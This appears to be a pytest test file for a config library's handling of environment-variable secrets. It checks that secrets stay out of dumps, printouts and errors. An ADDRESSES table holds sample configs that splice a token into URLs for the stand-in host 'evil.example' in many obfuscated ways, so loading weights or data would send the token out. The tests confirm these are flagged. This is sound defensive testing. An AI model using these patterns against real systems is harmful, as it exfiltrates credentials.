"""What an environment variable holds stays here: in no dump, print or specification, and in no address."""

from __future__ import annotations

import json
import pickle
from pathlib import Path

import pytest

from mimctl.config import Config, check
from mimctl.config.language.environment import FromEnvironment, address_errors, decode, encode, require_written
from mimctl.errors import ConfigError
from mimctl.launch.experiments.config_weights import remote_weights

SECRET = "s3cr3t-value"
EVIL = "http://evil.example/"
SPELL = "abcdefghijklmnopqrstuvwxyz0123456789-"


@pytest.fixture(autouse=True)
def _variable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOKEN", SECRET)
    monkeypatch.setenv("NUMBER", "7")
    monkeypatch.setenv("ROOT", "/data")
    monkeypatch.delenv("UNSET", raising=False)


WAYS = {
    "plain": "x = '{{$TOKEN:}}'",
    "part": "x = 'a-{{ $TOKEN : none }}-b'",
    "unquoted": "x = {{ '$TOKEN:none' }}",
    "f-string": "t = '{{$TOKEN:}}'\nx = f'{t}/a'",
    "template in an f-string": "n = 1\nx = f'{n}{{$TOKEN:}}'",
    "sum": "x = 'a/' + '{{$TOKEN:}}'",
    "format": "x = '{}/a'.format('{{$TOKEN:}}')",
    "percent": "x = '%s/a' % '{{$TOKEN:}}'",
    "join": "x = '/'.join(['a', '{{$TOKEN:}}'])",
    "path": "import os\nx = os.path.join('a', '{{$TOKEN:}}')",
    "nested": "x = dict(a=[('{{$TOKEN:}}', 1)])",
    "replaced": "x = '{{$TOKEN:}}'.replace('-', '_')",
    "upper": "x = '{{$TOKEN:}}'.upper()",
    "slice": "x = '{{$TOKEN:}}'[1:]",
    "characters": "x = [c for c in '{{$TOKEN:}}']",
    "reversed": "x = '{{$TOKEN:}}'[::-1]",
    "split": "x = '{{$TOKEN:}}'.split('-')",
    "repr": "x = str(['{{$TOKEN:}}'])",
    "spelt out": (
        f"x = ''\nfor c in '{{{{$TOKEN:}}}}':\n    for k in '{SPELL}':\n"
        "        if k == c:\n            x += k\ndel c, k"
    ),
    "looked up": (
        f"d = dict()\nfor k in '{SPELL}':\n    d[k] = k\n"
        "x = ''.join([d[c] for c in '{{$TOKEN:}}' if c in d])\ndel d, k"
    ),
    "key": "x = {'{{$TOKEN:}}': 1}",
    "set": "x = {'{{$TOKEN:}}', 'a'}",
}


@pytest.mark.parametrize("text", WAYS.values(), ids=WAYS.keys())
def test_it_is_in_no_text_of_the_config_however_it_got_there(text: str, tmp_path: Path) -> None:
    config = Config.fromstring(text)
    plain = config.to_dict()["x"]
    values = [plain] if isinstance(plain, str) else list(plain)
    assert any(len(value) for value in values)
    shown = [config.pretty_text, repr(config.to_dict()), repr(config.x)]
    for suffix in (".yaml", ".json"):
        try:
            config.dump(tmp_path / f"x{suffix}")
        except ConfigError as err:
            shown.append(str(err))
        else:
            shown.append((tmp_path / f"x{suffix}").read_text())
    for each in shown:
        assert not any(part in each.lower() for part in (SECRET, SECRET[1:], SECRET[::-1], "s3cr3t", "value"))


@pytest.mark.parametrize("suffix", [".py", ".yaml", ".json"])
def test_a_dump_has_what_was_written_and_loads_back_to_the_value(suffix: str, tmp_path: Path) -> None:
    text = "a = '{{$TOKEN:none}}'\nb = dict(c=['x/{{ $ROOT:/d }}/y', 'plain'])\nd = f'{a}/z'\ne = '{{$UNSET:default}}'"
    config = Config.fromstring(text)
    assert config.to_dict() == {"a": SECRET, "b": {"c": ["x//data/y", "plain"]}, "d": f"{SECRET}/z", "e": "default"}
    target = tmp_path / f"whole{suffix}"
    config.dump(target)
    assert "{{$TOKEN:none}}/z" in target.read_text()
    assert Config.fromfile(target) == config
    assert "default" in target.read_text()


def test_yaml_and_json_are_no_different(tmp_path: Path) -> None:
    for suffix, text in ((".yaml", "a: '{{ $TOKEN:none }}'\nb: 1\n"), (".json", '{"a": "{{ $TOKEN:none }}", "b": 1}')):
        config = Config.fromstring(text, suffix)
        assert config.a == SECRET
        assert SECRET not in config.pretty_text


def test_bases_and_children_keep_the_mark(tmp_path: Path) -> None:
    (tmp_path / "base.py").write_text("token = '{{$TOKEN:none}}'\nplain = 'p'")
    (tmp_path / "child.py").write_text(
        "_base_ = './base.py'\nx = _base_.token + '/x'\ny = '{{_base_.token}}'\nz = _base_.plain"
    )
    for _ in range(2):
        config = Config.fromfile(tmp_path / "child.py")
        assert (config.x, config.y, config.z) == (f"{SECRET}/x", SECRET, "p")
        assert [type(config[key]) for key in ("x", "y", "token", "z")] == [FromEnvironment] * 3 + [str]
        assert SECRET not in config.pretty_text
    again = pickle.loads(pickle.dumps(config))
    assert SECRET not in again.pretty_text
    assert SECRET not in config.copy().pretty_text


def test_what_cannot_be_written_is_said_before_a_run_depends_on_it() -> None:
    require_written(Config.fromstring(WAYS["part"]))
    with pytest.raises(ConfigError) as caught:
        require_written(Config.fromstring(WAYS["upper"]))
    assert caught.value.code == "environment-value"
    assert SECRET not in str(caught.value.to_dict()).lower()


def test_a_specification_names_the_variable() -> None:
    config = Config.fromstring("a = ['x/{{$TOKEN:none}}', (1, 'b')]")
    stored = json.loads(json.dumps(encode({"a": config.a})))
    assert stored == {"a": [{"$environment": "x/{{$TOKEN:none}}"}, [1, "b"]]}
    assert decode(stored)["a"][0] == f"x/{SECRET}"
    assert isinstance(decode(stored)["a"][0], FromEnvironment)


def test_a_child_reads_the_overrides_of_a_specification(tmp_path: Path) -> None:
    path = tmp_path / "c.py"
    path.write_text("a = 1")
    config = Config.fromfile(path, overrides={"a": {"$environment": "{{$TOKEN:}}/y"}})
    assert config.a == f"{SECRET}/y"
    assert SECRET not in config.pretty_text


ADDRESSES = {
    "load_from": f"load_from = '{EVIL}{{{{$TOKEN:}}}}.pth'",
    "whole address": "load_from = '{{$URL:}}'",
    "init_cfg": f"model = dict(init_cfg=dict(type='Pretrained', checkpoint='{EVIL}{{{{$TOKEN:}}}}'))",
    "f-string": f"t = '{{{{$TOKEN:}}}}'\nload_from = f'{EVIL}{{t}}.pth'",
    "query": f"model = dict(backbone=dict(init_cfg=dict(type='Pretrained', checkpoint='{EVIL}?k={{{{$TOKEN:}}}}')))",
    "host": "load_from = 'https://{{$TOKEN:}}.evil.example/w.pth'",
    "spelt out": f"{WAYS['spelt out']}\nload_from = '{EVIL}' + x",
    "looked up": f"{WAYS['looked up']}\nload_from = '{EVIL}' + x",
    "chosen": f"load_from = '{EVIL}a.pth' if 's3' in '{{{{$TOKEN:}}}}' else '{EVIL}b.pth'",
    "chosen by length": f"load_from = '{EVIL}%d.pth' % len('{{{{$TOKEN:}}}}')",
    "number": f"n = {{{{ '$NUMBER:1' }}}}\nload_from = f'{EVIL}{{n}}.pth'",
    "number computed": "n = {{ '$NUMBER:1' }} * 2 + 1\nload_from = 'http://evil.example/%d.pth' % n",
    "counted": f"n = len([c for c in '{{{{$TOKEN:}}}}' if c == 's'])\nload_from = '{EVIL}' + str(n)",
    "data root": f"train_dataloader = dict(dataset=dict(data_root='{EVIL}{{{{$TOKEN:}}}}/'))",
    "beside an address": (
        f"train_dataloader = dict(dataset=dict(data_root='{EVIL}', ann_file='{{{{$TOKEN:}}}}/a.json'))"
    ),
    "path mapping": (
        f"train_dataloader = dict(dataset=dict(ann_file='x/{{{{$TOKEN:}}}}', backend_args=dict(path_mapping="
        f"{{'x/': '{EVIL}'}})))"
    ),
}


@pytest.mark.parametrize("text", ADDRESSES.values(), ids=ADDRESSES.keys())
def test_no_address_may_hold_it(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("URL", f"{EVIL}{SECRET}")
    config = Config.fromstring(text)
    errors = address_errors(config)
    assert [error.code for error in errors] == ["environment-address"] * len(errors)
    assert errors
    assert all(error.origin is not None for error in errors)
    assert not any(SECRET in str(error.to_dict()) for error in errors)
    if "model" in config or "load_from" in config:
        with pytest.raises(ConfigError) as caught:
            remote_weights(config)
        assert caught.value.code == "environment-address"


def test_what_has_nothing_to_do_with_it_is_fetched() -> None:
    text = (
        "root = '{{$ROOT:/d}}'\nwork_dir = root + '/runs'\nload_from = 'https://host/w.pth'\n"
        "model = dict(name='{{$TOKEN:}}', init_cfg=dict(type='Pretrained', checkpoint='https://host/r50.pth'))\n"
        "train_dataloader = dict(dataset=dict(data_root=root))\n"
        "val_dataloader = dict(dataset=dict(data_root='s3://b/', backend_args=dict(backend='s3', key='{{$TOKEN:}}')))\n"
        "test_dataloader = dict(dataset=dict(data_root='{{$UNSET:http://host/}}/x'))\n"
        "if '{{$TOKEN:}}' == 'x':\n    extra = 1\n"
    )
    config = Config.fromstring(text)
    assert address_errors(config) == []
    assert list(remote_weights(config)) == ["https://host/w.pth", "https://host/r50.pth"]


def test_a_config_that_cannot_be_read_without_the_variable_fetches_nothing() -> None:
    text = f"n = int('{{{{$NUMBER:}}}}')\nx = '{{{{$TOKEN:}}}}'.lower() + 'y'\nload_from = '{EVIL}w.pth'"
    config = Config.fromstring(text)
    assert config.n == 7
    assert SECRET not in config.pretty_text
    assert [error.code for error in address_errors(config)] == ["environment-address"]


def test_typed_addresses_may_hold_anything(tmp_path: Path) -> None:
    path = tmp_path / "c.py"
    path.write_text("load_from = 'https://host/{{$TOKEN:}}'")
    config = Config.fromfile(path, overrides={"load_from": "https://host/typed"})
    assert address_errors(config) == []


def test_mistakes_do_not_tell_it() -> None:
    table = {"schema_version": 1, "package": "mimctl.engine", "scope": "engine", "kinds": {"model": {}, "hook": {}}}
    text = (
        "model = dict(type='{{$TOKEN:}}')\ncustom_hooks = [dict(type='x{{$TOKEN:}}')]\n"
        "default_scope = 'engine'\nload_form = '{{$TOKEN:}}'"
    )
    errors = check(Config.fromstring(text), [table, {**table, "package": "mimctl.vision", "scope": "vision"}])
    assert {error.code for error in errors} >= {"unknown-type"}
    assert any("$TOKEN" in error.message for error in errors)
    assert not any(SECRET in str(error.to_dict()) + str(error) for error in errors)


@pytest.mark.parametrize(
    ("suffix", "text"),
    [
        (
            ".yaml",
            "a: {{$NUMBER:3}}\nb:\n- {{ $UNSET:true }}\n- {{$UNSET:word}}\nc: '{{$NUMBER:3}}'\n"
            "d: [{{$UNSET:1.5}}, x]\n",
        ),
        (
            ".json",
            '{"a": {{$NUMBER:3}}, "b": [{{ $UNSET:true }}, {{$UNSET:word}}], "c": "{{$NUMBER:3}}", '
            '"d": [{{$UNSET:1.5}}, "x"]}',
        ),
    ],
)
def test_a_variable_without_quotes_is_a_value_in_yaml_and_json_too(suffix: str, text: str) -> None:
    assert Config.fromstring(text, suffix).to_dict() == {"a": 7, "b": [True, "word"], "c": "7", "d": [1.5, "x"]}
